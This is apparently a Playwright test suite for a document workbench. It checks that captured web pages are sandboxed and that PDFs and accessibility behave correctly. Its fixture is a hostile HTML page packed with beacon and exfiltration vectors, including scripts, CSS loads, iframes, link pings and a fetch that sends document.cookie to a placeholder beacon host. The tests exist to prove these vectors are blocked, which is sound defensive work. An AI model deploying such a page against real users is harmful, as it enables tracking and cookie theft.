"""A hostile captured page in real Chromium: it runs nothing, reads nothing, asks nobody, leads nowhere."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.http import HttpResponse
from playwright.sync_api import Browser, Page, expect
from tests.workbench.browsing import Opened, clean, leave, press
from tests.workbench.copies.making import PAGES, pdf, warc
from tests.workbench.opening import Served, served, told

from sourcebook.workbench.evidence.origin import _guarded

_HOSTILE = """<!doctype html><html><head><title>Gazette</title>
<meta http-equiv="refresh" content="1;url=BEACON/refresh">
<link rel="stylesheet" href="BEACON/style"><link rel="preload" as="image" href="BEACON/preload">
<link rel="prefetch" href="BEACON/prefetch"><link rel="icon" href="BEACON/icon"><link rel="dns-prefetch" href="BEACON">
<link rel="preconnect" href="BEACON"><link rel="modulepreload" href="BEACON/module">
<style>@import "BEACON/import"; @font-face { font-family: spy; src: url(BEACON/font) } body { font-family: spy;
 background: url(BEACON/background) } p::after { content: url(BEACON/content) }</style>
<script>fetch("BEACON/fetch"); new Image().src = "BEACON/image-of-script"; navigator.sendBeacon("BEACON/beacon");
 document.title = "it ran"; parent.postMessage("it ran", "*"); top.location = "BEACON/top";
 fetch("BEACON/cookie?" + document.cookie)</script><script src="BEACON/script"></script></head>
<body onload="fetch('BEACON/onload')" background="BEACON/old"><h1>Every hill will be ours again.</h1>
<img src="BEACON/img" srcset="BEACON/srcset 2x" onerror="fetch('BEACON/onerror')"><iframe src="BEACON/iframe"></iframe>
<iframe srcdoc="<script>fetch('BEACON/srcdoc')</script>"></iframe><object data="BEACON/object"></object>
<embed src="BEACON/embed"><video src="BEACON/video" poster="BEACON/poster" autoplay></video><audio src="BEACON/audio" autoplay></audio>
<svg width="9" height="9"><image href="BEACON/svg"/><script>fetch("BEACON/svg-script")</script><rect fill="url(BEACON/fill)"/></svg>
<a id="out" href="BEACON/link" ping="BEACON/ping" target="_top">a link</a>
<form id="form" action="BEACON/form" method="post"><button id="send">send</button></form>
<p style="background-image: url(BEACON/inline)">text</p></body></html>"""


@pytest.fixture(scope="module")
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server that notes whatever is asked of it."""
    asked: list[str] = []

    class Noting(BaseHTTPRequestHandler):
        """Notes, and answers nothing."""

        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *given: Any) -> None:
            """Nothing is said."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def workbench(tmp_path_factory: pytest.TempPathFactory, beacon: tuple[str, list[str]]) -> Iterator[Served]:
    """A workbench whose dossier holds the hostile page as it is, the same within a web archive, and a PDF."""
    folder = tmp_path_factory.mktemp("copies")
    home, page = folder / "home", _HOSTILE.replace("BEACON", beacon[0]).encode()
    (folder / "page.html").write_bytes(page)
    (folder / "page.warc.gz").write_bytes(
        warc(
            ("https://gazette.example/1", "text/html", page),
            (f"{beacon[0]}/style", "text/css", b"h1{color:rgb(1, 2, 3)}"),
        )
    )
    (folder / "page.pdf").write_bytes(pdf(*PAGES))
    told(home, "init", "ardovia")
    for name in ("page.html", "page.warc.gz", "page.pdf"):
        told(home, "add", str(folder / name))
    with served(home) as running:
        yield running


def copy_of(page: Page, workbench: Served, name: str) -> str:
    """The address of the copy of a file."""
    page.goto(f"{workbench.address}d/ardovia/records/?kind=capture")
    where = page.get_by_role("link", name=name).first.get_attribute("href") or ""
    return f"{workbench.address}d/ardovia/copies/{where.rstrip('/').rpartition('/')[2]}/"


@pytest.mark.parametrize("name", ["page.html", "page.warc.gz"])
def test_a_hostile_page_does_nothing(
    name: str, workbench: Served, window: Opened, beacon: tuple[str, list[str]]
) -> None:
    page = window(expected="Blocked form submission")
    where, asked = beacon
    asked.clear()
    messages: list[Any] = []
    page.expose_function("heard", lambda said: messages.append(said))
    page.add_init_script("addEventListener('message', event => heard(String(event.data)))")
    sent: list[tuple[str, dict[str, str]]] = []
    page.on("request", lambda made: sent.append((made.url, made.all_headers())))
    address = copy_of(page, workbench, name)
    page.goto(address, wait_until="networkidle")
    frame = next(each for each in page.frames if "evidence.localhost" in each.url)
    assert frame.locator("h1").inner_text() == "Every hill will be ours again."
    before = frame.url
    frame.locator("#out").click()
    frame.locator("#send").click()
    # Longer than its refresh waits.
    page.wait_for_timeout(1500)
    assert page.url == address and frame.url == before and frame.locator("h1").is_visible()
    assert asked == [] and messages == []
    assert [url for url, _ in sent if url.startswith(where)] == []
    inside = [headers for url, headers in sent if "evidence.localhost" in url]
    assert inside and all("cookie" not in headers and "referer" not in headers for headers in inside)
    if name == "page.warc.gz":
        assert frame.locator("h1").evaluate("one => getComputedStyle(one).color") == "rgb(1, 2, 3)"
    # Opened by itself it is held as well.
    alone = page.context.new_page()
    alone.goto(before, wait_until="networkidle")
    alone.wait_for_timeout(1200)
    assert asked == [] and alone.title() != "it ran" and alone.context.cookies(before) == []


def test_the_policy_alone_holds_a_page_that_nobody_cleaned(
    chromium: Browser, beacon: tuple[str, list[str]]
) -> None:
    where, asked = beacon
    headers = dict(_guarded(HttpResponse(), "http://evidence.localhost/x/", where).headers.items())
    body = _HOSTILE.replace("BEACON", where).encode()

    class Raw(BaseHTTPRequestHandler):
        """The page as it was captured, with the headers of the host of evidence."""

        def do_GET(self) -> None:
            self.send_response(200)
            for header, value in {**headers, "Set-Cookie": "secret=1"}.items():
                self.send_header(header, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *given: Any) -> None:
            """Nothing is said."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Raw)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    asked.clear()
    # What the policy forbids is told as a fault: here it is to.
    window = chromium.new_context().new_page()
    window.goto(f"http://127.0.0.1:{server.server_address[1]}/", wait_until="load")
    window.wait_for_timeout(1500)
    # Connections are opened ahead by such links, and ask for nothing: that is why they are taken out.
    assert asked == [] and window.title() == "Gazette"
    leave(window.context)
    server.shutdown()
    server.server_close()


def test_no_other_page_can_frame_it(
    workbench: Served, page: Page, chromium: Browser, beacon: tuple[str, list[str]]
) -> None:
    page.goto(copy_of(page, workbench, "page.html"), wait_until="networkidle")
    address = next(each.url for each in page.frames if "evidence.localhost" in each.url)
    other = chromium.new_context().new_page()
    framing = f"<!doctype html><iframe src={json.dumps(address)}></iframe>"
    other.route("http://other.example/", lambda route: route.fulfill(body=framing, content_type="text/html"))
    other.goto("http://other.example/", wait_until="networkidle")
    assert len(other.frames) == 2
    assert "Every hill" not in "".join(each.content() for each in other.frames)
    leave(other.context)


def test_pages_of_a_pdf_are_turned_by_keys(workbench: Served, page: Page) -> None:
    page.goto(copy_of(page, workbench, "page.pdf"))
    assert page.locator("svg image").evaluate("one => fetch(one.href.baseVal).then(got => got.status)") == 200
    press(page, "]")
    expect(page.get_by_label("page").and_(page.locator("input[value='2']"))).to_be_visible()
    press(page, "[")
    expect(page.get_by_label("page").and_(page.locator("input[value='1']"))).to_be_visible()
    page.get_by_role("button", name="Verify now").click()
    expect(page.get_by_text("Unchanged")).to_be_visible()


@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_nothing(width: int, workbench: Served, window: Opened, axe: str) -> None:
    page = window(viewport={"width": width, "height": 800}, bypass_csp=True)
    seen = [copy_of(page, workbench, name) for name in ("page.pdf", "page.html")]
    for address in [*seen, f"{workbench.address}d/ardovia/tokens/", f"{workbench.address}api/v1/"]:
        page.goto(address, wait_until="networkidle")
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        clean(page, axe, width, frames=False)
